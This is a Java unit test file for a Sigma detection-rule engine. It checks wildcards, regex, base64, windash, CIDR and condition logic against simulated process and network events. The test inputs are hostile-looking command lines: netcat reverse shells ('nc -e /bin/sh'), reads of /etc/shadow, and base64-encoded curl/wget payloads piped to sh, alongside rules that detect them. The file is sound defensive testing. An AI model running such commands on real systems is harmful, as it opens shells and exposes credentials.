package io.vmiscope.detect.sigma;

import io.vmiscope.events.Event;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;

import static io.vmiscope.detect.sigma.Guest.*;
import static org.assertj.core.api.Assertions.assertThat;

/** Every modifier and condition form of the Sigma detection language, on process_creation events. */
class SigmaLanguageTest {

    @TempDir
    Path dir;

    /** Whether a rule with {@code detection} fires on an exec of {@code path} with {@code argv}. */
    private boolean fires(String detection, String path, String... argv) {
        return fires(detection, exec(1, 10, 1, 1000, "sh", path, argv));
    }

    private boolean fires(String detection, Event event) {
        RuleSet rules = rules(dir, "title: t\nid: r1\nlogsource: {product: linux, category: process_creation}\n"
                + "detection:\n" + detection + "\nlevel: low\n");
        assertThat(rules.malformed()).isEmpty();
        assertThat(rules.unsupported()).isEmpty();
        return !run(rules, event).isEmpty();
    }

    @Test
    void plainValues_matchWholeValues_caseInsensitively_withWildcards() {
        assertThat(fires("  s: {Image: '/BIN/LS'}\n  condition: s", "/bin/ls", "ls")).isTrue();
        assertThat(fires("  s: {Image: '/bin/l'}\n  condition: s", "/bin/ls", "ls")).isFalse();
        assertThat(fires("  s: {Image: '/bin/*'}\n  condition: s", "/bin/ls", "ls")).isTrue();
        assertThat(fires("  s: {Image: '/b?n/l*'}\n  condition: s", "/bin/ls", "ls")).isTrue();
        assertThat(fires("  s: {Image: '/b?n/l*'}\n  condition: s", "/bn/ls", "ls")).isFalse();
        assertThat(fires("  s: {CommandLine: 'echo \\*'}\n  condition: s", "/bin/echo", "echo", "*")).isTrue();
        assertThat(fires("  s: {CommandLine: 'echo \\*'}\n  condition: s", "/bin/echo", "echo", "x")).isFalse();
    }

    @Test
    void contains_startswith_endswith_andAll() {
        assertThat(fires("  s: {CommandLine|contains: 'shadow'}\n  condition: s", "/bin/cat", "cat", "/etc/shadow"))
                .isTrue();
        assertThat(fires("  s: {CommandLine|startswith: 'cat '}\n  condition: s", "/bin/cat", "cat", "x")).isTrue();
        assertThat(fires("  s: {Image|endswith: '/cat'}\n  condition: s", "/bin/cat", "cat")).isTrue();
        assertThat(fires("  s: {Image|endswith: '/ca'}\n  condition: s", "/bin/cat", "cat")).isFalse();
        assertThat(fires("  s: {CommandLine|contains|all: [' -e ', '/bin/sh']}\n  condition: s", "/bin/nc", "nc", "-e",
                "/bin/sh")).isTrue();
        assertThat(fires("  s: {CommandLine|contains|all: [' -e ', '/bin/bash']}\n  condition: s", "/bin/nc", "nc", "-e",
                "/bin/sh")).isFalse();
        assertThat(fires("  s: {CommandLine|contains: [' -x ', '/bin/sh']}\n  condition: s", "/bin/nc", "nc", "-e",
                "/bin/sh")).isTrue();
        assertThat(fires("  s: {CommandLine|contains|cased: 'SHADOW'}\n  condition: s", "/bin/cat", "cat", "/etc/shadow"))
                .isFalse();
    }

    @Test
    void re_isCaseSensitive_unlessI_andFindsAnywhere() {
        assertThat(fires("  s: {CommandLine|re: 'nc\\s+-e'}\n  condition: s", "/bin/nc", "nc", "-e", "x")).isTrue();
        assertThat(fires("  s: {CommandLine|re: 'NC\\s+-E'}\n  condition: s", "/bin/nc", "nc", "-e", "x")).isFalse();
        assertThat(fires("  s: {CommandLine|re|i: 'NC\\s+-E'}\n  condition: s", "/bin/nc", "nc", "-e", "x")).isTrue();
    }

    @Test
    void base64_andBase64offset_findEncodedText() {
        String encoded = Base64.getEncoder().encodeToString("curl http://x".getBytes(StandardCharsets.UTF_8));
        assertThat(fires("  s: {CommandLine|base64|contains: 'curl http://x'}\n  condition: s", "/bin/sh", "sh",
                "-c", "echo " + encoded + " | base64 -d | sh")).isTrue();
        for (String prefix : new String[] {"", "a", "ab"}) {
            String shifted = Base64.getEncoder().encodeToString((prefix + "wget http://evil").getBytes(
                    StandardCharsets.UTF_8));
            assertThat(fires("  s: {CommandLine|base64offset|contains: 'wget http'}\n  condition: s", "/bin/sh", "sh",
                    "-c", "echo " + shifted)).as("offset %d", prefix.length()).isTrue();
        }
        assertThat(fires("  s: {CommandLine|base64offset|contains: 'wget http'}\n  condition: s", "/bin/sh", "sh",
                "-c", "echo aGVsbG8=")).isFalse();
    }

    @Test
    void windash_matchesDashAndSlashForms_andCidr_matchesNetworks() {
        String rule = "  s: {CommandLine|windash|contains: ' -enc '}\n  condition: s";
        assertThat(fires(rule, "/bin/pwsh", "pwsh", "/enc", "x")).isTrue();
        assertThat(fires(rule, "/bin/pwsh", "pwsh", "\u2013enc", "x")).isTrue();
        assertThat(fires(rule, "/bin/pwsh", "pwsh", "-enc", "x")).isTrue();
        assertThat(fires(rule, "/bin/pwsh", "pwsh", "+enc", "x")).isFalse();
        RuleSet net = rules(dir, "title: n\nid: n1\nlogsource: {product: linux, category: network_connection}\n"
                + "detection:\n  s: {DestinationIp|cidr: ['10.0.0.0/8', 'fe80::/10']}\n  condition: s\n");
        assertThat(run(net, connect(1, 5, "nc", "10.1.2.3:80"))).hasSize(1);
        assertThat(run(net, connect(1, 5, "nc", "[fe80::1]:80"))).hasSize(1);
        assertThat(run(net, connect(1, 5, "nc", "11.1.2.3:80"))).isEmpty();
        assertThat(run(net, connect(1, 5, "nc", "[2001:db8::1]:80"))).isEmpty();
    }

    @Test
    void exists_null_andNumericComparisons() {
        assertThat(fires("  s: {ParentImage|exists: true}\n  condition: s", "/bin/ls", "ls")).isFalse();
        assertThat(fires("  s: {ParentImage|exists: false}\n  condition: s", "/bin/ls", "ls")).isTrue();
        assertThat(fires("  s: {ParentImage: null}\n  condition: s", "/bin/ls", "ls")).isTrue();
        assertThat(fires("  s: {ProcessId|gt: 9}\n  condition: s", "/bin/ls", "ls")).isTrue();
        assertThat(fires("  s: {ProcessId|gte: 10}\n  condition: s", "/bin/ls", "ls")).isTrue();
        assertThat(fires("  s: {ProcessId|lt: 10}\n  condition: s", "/bin/ls", "ls")).isFalse();
        assertThat(fires("  s: {ProcessId|lte: 10}\n  condition: s", "/bin/ls", "ls")).isTrue();
        assertThat(fires("  s: {CommandLine|gt: 5}\n  condition: s", "/bin/ls", "ls")).isFalse();
    }

    @Test
    void selections_mapsAreAnd_listsOfMapsAreOr_keywordsSearchEveryField() {
        assertThat(fires("  s: {Image: '/bin/ls', User: '1000'}\n  condition: s", "/bin/ls", "ls")).isTrue();
        assertThat(fires("  s: {Image: '/bin/ls', User: root}\n  condition: s", "/bin/ls", "ls")).isFalse();
        assertThat(fires("  s:\n    - {Image: '/bin/cat'}\n    - {User: '1000'}\n  condition: s", "/bin/ls", "ls"))
                .isTrue();
        assertThat(fires("  k: ['needle']\n  condition: k", "/bin/ls", "ls", "/tmp/needle-x")).isTrue();
        assertThat(fires("  k: ['needle']\n  condition: k", "/bin/ls", "ls", "/tmp/x")).isFalse();
    }

    @Test
    void conditions_andOrNot_parentheses_andQuantifiers() {
        String sels = "  a: {Image|endswith: '/nc'}\n  b: {CommandLine|contains: ' -e '}\n"
                + "  c: {User: root}\n  _x: {Image|endswith: '/nothing'}\n";
        assertThat(fires(sels + "  condition: a and b and not c", "/bin/nc", "nc", "-e", "x")).isTrue();
        assertThat(fires(sels + "  condition: a and not b or c", "/bin/nc", "nc", "-e", "x")).isFalse();
        assertThat(fires(sels + "  condition: a and (not b or c)", "/bin/nc", "nc", "-e", "x")).isFalse();
        assertThat(fires(sels + "  condition: not (a and c)", "/bin/nc", "nc", "-e", "x")).isTrue();
        assertThat(fires(sels + "  condition: 1 of them", "/bin/ls", "ls")).isFalse();
        assertThat(fires(sels + "  condition: all of them", "/bin/nc", "nc", "-e", "x")).isFalse();
        assertThat(fires("  a: {Image|endswith: '/nc'}\n  b: {CommandLine|contains: ' -e '}\n  _x: {User: root}\n"
                + "  condition: all of them", "/bin/nc", "nc", "-e", "x")).isTrue();
        assertThat(fires("  sel_1: {Image|endswith: '/nc'}\n  sel_2: {User: root}\n  condition: 1 of sel_*",
                "/bin/nc", "nc")).isTrue();
        assertThat(fires("  sel_1: {Image|endswith: '/nc'}\n  sel_2: {User: root}\n  condition: all of sel_*",
                "/bin/nc", "nc")).isFalse();
        assertThat(fires("  a: {Image|endswith: '/nc'}\n  b: {User: root}\n  condition: [b, a]", "/bin/nc", "nc"))
                .isTrue();
    }

    @Test
    void busyboxApplets_resolveToTheAppletsPath_andParentsComeFromForks() {
        assertThat(fires("  s: {Image|endswith: '/nc', CommandLine: 'nc -e /bin/sh h 1'}\n  condition: s",
                "/bin/busybox", "nc", "-e", "/bin/sh", "h", "1")).isTrue();
        assertThat(fires("  s: {Image: '/bin/nc', CommandLine: 'nc -l'}\n  condition: s",
                "/bin/busybox", "busybox", "nc", "-l")).isTrue();
        RuleSet parent = rules(dir, "title: p\nid: p1\nlogsource: {product: linux, category: process_creation}\n"
                + "detection:\n  s: {ParentImage: '/usr/sbin/httpd', ParentCommandLine: 'httpd -p 80'}\n  condition: s\n");
        assertThat(run(parent, exec(0, 100, 1, 0, "sh", "/usr/sbin/httpd", "httpd", "-p", "80"),
                fork(1, 100, "httpd", 101), exec(2, 101, 100, 0, "httpd", "/bin/sh", "sh"))).hasSize(1);
    }
}
